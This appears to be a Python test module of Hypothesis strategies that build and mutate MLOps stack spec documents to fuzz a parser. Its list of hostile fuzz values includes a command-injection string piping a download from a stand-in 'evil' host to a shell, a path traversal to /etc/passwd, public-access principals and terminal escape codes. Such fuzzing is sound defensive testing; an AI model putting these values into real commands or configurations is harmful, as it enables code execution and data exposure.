"""Hypothesis generators of spec v1 documents, kept beside the tests so they grow with the spec.

Two sources: ``schema_specs`` builds documents field by field from spec v1's schema (mostly
valid, so the preview branch is exercised with unusual combinations), and ``mutated_specs``
takes a bundled spec and changes one place in it (a value replaced by a hostile one, a key
deleted or added, a list entry duplicated), so every field meets wrong input.
"""

from __future__ import annotations

import copy
from functools import cache
from pathlib import Path
from typing import Any

import yaml
from hypothesis import strategies as st

STACKS = Path(__file__).resolve().parents[2] / "stacks"
BUNDLED = ("credit-risk.yaml", "fraud-dev.yaml")

REGIONS = {
    "aws": ("eu-west-1", "eu-central-1", "us-east-1"),
    "gcp": ("europe-west4", "europe-west1", "us-central1"),
    "azure": ("westeurope", "northeurope", "eastus"),
}
PERMISSIONS = ("artifacts.read", "artifacts.write", "models.read", "models.register", "models.promote",
               "training.submit", "endpoints.invoke", "endpoints.deploy", "logs.read", "backups.restore")

# Values that have broken parsers before: wrong types, boundaries, non-finite numbers,
# control characters, shell and path tricks, public principals, huge numbers and texts.
HOSTILE: tuple[Any, ...] = (
    None, True, False, 0, -1, 1, 2.5, 10**20, -(10**20), float("inf"), float("-inf"), float("nan"),
    "", " ", "false", "true", "4", "yes", "0 0 31 2 *", "0 0 29 2 *", "* * * * *", "; curl evil | sh",
    "../../etc/passwd", "not a valid image ref!!", "group:allUsers", "serviceAccount:allAuthenticatedUsers",
    "user:*", "a\nb", "a\x00b", "\u202etxt", "x" * 5000, "latest-approved", "ml.m5.large", "eu-west-1",
    [], [None], ["a", "a"], {}, {"": "x"}, {"a": {"b": {"c": 1}}},
    # The kit's own folders and names that collide once a cloud maps them (issue 27).
    "code/", "models/", "data-capture/scoring/", "monitoring/scoring/", "fraud/serve", "\x1b[2J", "::warning::x",
)


@cache
def _bundled(name: str) -> dict[str, Any]:
    return yaml.safe_load((STACKS / name).read_text())


def paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a document: mapping keys and list indexes, interior nodes included."""
    found = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            found += paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += paths(value, (*prefix, index))
    return found


def _parent(doc: Any, path: tuple[Any, ...]) -> Any:
    for part in path[:-1]:
        doc = doc[part]
    return doc


hostile_values = st.one_of(
    st.sampled_from(HOSTILE),
    st.integers(min_value=-(10**25), max_value=10**25),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=40),
    st.lists(st.integers(min_value=-3, max_value=3), max_size=3),
)


@st.composite
def mutated_specs(draw: st.DrawFn) -> dict[str, Any]:
    """A bundled spec with one place changed: replaced, deleted, an unknown key added, or duplicated."""
    doc = copy.deepcopy(_bundled(draw(st.sampled_from(BUNDLED))))
    path = draw(st.sampled_from(paths(doc)))
    parent, last = _parent(doc, path), path[-1]
    action = draw(st.sampled_from(("replace", "replace", "replace", "delete", "add-key", "duplicate")))
    if action == "replace":
        parent[last] = draw(hostile_values)
    elif action == "delete":
        del parent[last]
    elif action == "add-key" and isinstance(parent[last], dict):
        parent[last][draw(st.sampled_from(("extra", "", "Name", "1")))] = draw(hostile_values)
    elif action == "duplicate" and isinstance(parent, list):
        parent.append(copy.deepcopy(parent[last]))
    else:
        parent[last] = draw(hostile_values)
    return doc


names = st.from_regex(r"[a-z][a-z0-9]{1,8}(-[a-z0-9]{1,5})?", fullmatch=True)
emails = st.builds(lambda user, domain: f"{user}@{domain}.com", st.from_regex(r"[a-z]{1,8}(\.[a-z]{1,5})?", fullmatch=True),
                   st.from_regex(r"[a-z]{2,8}", fullmatch=True))


@st.composite
def _compute(draw: st.DrawFn, training: bool) -> dict[str, Any]:
    compute: dict[str, Any] = {"cpu": draw(st.sampled_from((2, 4, 8, 16))),
                               "memoryGiB": draw(st.sampled_from((4, 8, 16, 32, 64)))}
    if training:
        compute["count"] = draw(st.integers(min_value=1, max_value=4))
        compute["spot"] = draw(st.booleans())
    return compute


@st.composite
def _training(draw: st.DrawFn, name: str) -> dict[str, Any]:
    image = draw(st.sampled_from(({"framework": "xgboost", "version": "1.7-1"},
                                  {"framework": "pytorch", "version": "2.1"},
                                  {"uri": "registry.example.com/team/train:1.4.0"},
                                  {"repository": "team/train", "tag": "1.4.0"})))
    job: dict[str, Any] = {"name": name, "image": image}
    if "framework" in image:
        # A framework image holds no code: the job packages ./src, which the contract test
        # links next to the spec (the bundled specs' code), and runs its train.py.
        job.update(code="./src", entrypoint="train.py")
    else:
        job["entrypoint"] = draw(st.sampled_from(("train.py", "src/train.py", "trainer.task")))
    job |= {
        "compute": draw(_compute(True)),
        "maxRuntimeMinutes": draw(st.integers(min_value=1, max_value=40320)),
        "hyperparameters": draw(st.dictionaries(st.from_regex(r"[a-z_][a-z0-9_]{0,10}", fullmatch=True),
                                                st.text(st.characters(codec="ascii", categories=("L", "N")), max_size=8),
                                                max_size=3)),
    }
    if draw(st.booleans()):
        job["schedule"] = draw(st.sampled_from(("0 3 * * 1", "*/30 * * * *", "0 0 1 * *", "15 2 * * 1-5", "0 0 1 1 *")))
    return job


@st.composite
def _endpoint(draw: st.DrawFn, name: str) -> dict[str, Any]:
    low = draw(st.integers(min_value=1, max_value=4))
    strategy = draw(st.sampled_from(("all-at-once", "canary", "linear", "blue-green", "shadow")))
    capture = draw(st.booleans())
    endpoint: dict[str, Any] = {
        "name": name,
        "model": draw(st.one_of(
            # format: mlflow, so a registry model deploys on Azure ML too (no-code deployment).
            st.builds(lambda v: {"source": "registry", "package": "pkg-one", "version": v, "format": "mlflow"},
                      st.one_of(st.just("latest-approved"), st.integers(min_value=1, max_value=30))),
            # Only the cloud-neutral artifact form: a fully qualified URI belongs to one cloud
            # (docs/spec-references.md), and these specs are placed on one to three clouds.
            st.just({"source": "artifact", "image": {"repository": "team/serve", "tag": "2"},
                     "artifactPath": "models/serve/"}),
        )),
        "compute": draw(_compute(False)),
        "autoscaling": {"minInstances": low, "maxInstances": low + draw(st.integers(min_value=0, max_value=4))},
        "deployment": {"strategy": strategy, "autoRollback": draw(st.booleans())},
        "dataCapture": {"enabled": capture, "samplingPercent": draw(st.integers(min_value=1, max_value=100))},
        "monitoring": {"alarms": {"errorRatePercent": draw(st.sampled_from((0.5, 1, 5)))},
                       "notify": draw(st.lists(emails, max_size=2, unique_by=str.lower))},
    }
    if capture and draw(st.booleans()):
        endpoint["monitoring"]["drift"] = {"schedule": draw(st.sampled_from(("hourly", "daily")))}
    return endpoint


@st.composite
def schema_specs(draw: st.DrawFn) -> dict[str, Any]:
    """A document built from spec v1's fields, each drawn from its documented range."""
    environment = draw(st.sampled_from(("dev", "staging", "prod")))
    clouds = draw(st.lists(st.sampled_from(tuple(REGIONS)), min_size=1, max_size=2, unique=True))
    cross_region = draw(st.booleans())
    placement: dict[str, Any] = {}
    for cloud in clouds:
        primary, backup = draw(st.permutations(REGIONS[cloud]))[:2]
        key, backup_key = ("location", "backupLocation") if cloud == "azure" else ("region", "backupRegion")
        placement[cloud] = {key: primary, **({backup_key: backup} if cross_region else {})}
        if cloud == "gcp":
            placement[cloud]["project"] = "acme-ml-" + environment
    doc: dict[str, Any] = {
        "apiVersion": "mlopskit/v1",
        "kind": "Stack",
        "metadata": {"name": draw(names.filter(lambda n: len(n) >= 3)), "environment": environment,
                     "owner": draw(emails), "costCenter": "cc-1", "dataClassification":
                     draw(st.sampled_from(("public", "internal", "confidential", "restricted")))},
        "placement": placement,
        "network": {"private": draw(st.booleans())},
        "encryption": {"customerManagedKeys": draw(st.booleans()),
                       "keyRotationDays": draw(st.integers(min_value=90, max_value=2560))},
    }
    if draw(st.booleans()):
        doc["budget"] = {"monthlyLimitUsd": draw(st.floats(min_value=1, max_value=10_000_000))}
    if draw(st.booleans()) or environment == "prod":
        doc["backups"] = {"schedule": draw(st.sampled_from(("hourly", "daily", "weekly"))),
                          "retentionDays": draw(st.integers(min_value=1, max_value=3650)),
                          "crossRegion": cross_region,
                          "targets": draw(st.lists(st.sampled_from(("artifacts", "models", "containers")),
                                                   unique=True))}
    job_names = draw(st.lists(names, max_size=1, unique=True))
    doc["training"] = [draw(_training(n)) for n in job_names]
    endpoint_names = draw(st.lists(names, max_size=2, unique_by=lambda n: n.replace("-", "")))
    doc["endpoints"] = [draw(_endpoint(n)) for n in endpoint_names]
    roles = draw(st.lists(names, max_size=2, unique_by=lambda n: n.replace("-", "")))
    doc["access"] = {"roles": [{"name": role, "permissions": draw(st.lists(st.sampled_from(PERMISSIONS), min_size=1,
                                                                           max_size=3, unique=True)),
                                "principals": [f"group:{draw(emails)}"]} for role in roles]}
    return doc
